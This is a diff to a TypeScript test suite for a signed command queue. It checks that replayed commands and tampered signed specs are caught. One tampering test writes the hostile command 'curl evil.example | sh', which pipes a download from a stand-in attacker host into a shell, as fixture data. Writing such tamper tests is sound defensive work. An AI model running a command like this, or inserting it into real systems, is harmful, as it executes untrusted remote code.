@@ -8,12 +8,14 @@ import {
   draftCommand,
   FoldCache,
   insertCommand,
+  isLive,
   liveCommand,
   nextRunnable,
   planQueue,
   recordSigner,
   requestCancel,
   signCommand,
+  toStored,
 } from "@outpost/shared-model";
 import { cleanupAfterEach, testRoot } from "@outpost/shared-model/testing";
 import { describe, expect, it, vi } from "vitest";
@@ -109,12 +111,12 @@ describe("QueueVerdicts", () => {
     const { device, alice, plan, reasonOf } = await setUp();
     const other = await memoryDevice(cleanup, "queue-verdicts-b", 0, "laptop-2");
     const id = await alice.enqueue(other.device, { kind: "inventory.collect" });
-    const copy = structuredClone(other.device.doc().commands[id]);
+    const copy = liveCommand(other.device.doc().commands, id);
     const replayed = "cmd-replayed-under-another-key" as CommandId;
     device.change((doc) => {
       if (copy === undefined) return;
-      doc.commands[id] = structuredClone(copy);
-      doc.commands[replayed] = structuredClone(copy);
+      doc.commands[id] = toStored(copy);
+      doc.commands[replayed] = toStored(copy);
       recordSigner(doc, alice.signer.certificate);
     });
     const result = await plan();
@@ -152,8 +154,9 @@ describe("QueueVerdicts", () => {
     // The device (or the relay) edits a signed spec, leaving its signature: never a cached yes.
     const target = ids[0] as CommandId;
     device.change((doc) => {
-      const spec = liveCommand(doc.commands, target)?.spec;
-      if (spec) spec.args.command = "curl evil.example | sh";
+      // The draft's own entry: liveCommand gives a plain copy, which edits nothing.
+      const entry = doc.commands[target];
+      if (entry !== undefined && isLive(entry)) entry.spec.args.command = "curl evil.example | sh";
     });
     const trust = await check();
     expect(verify).toHaveBeenCalledTimes(101);
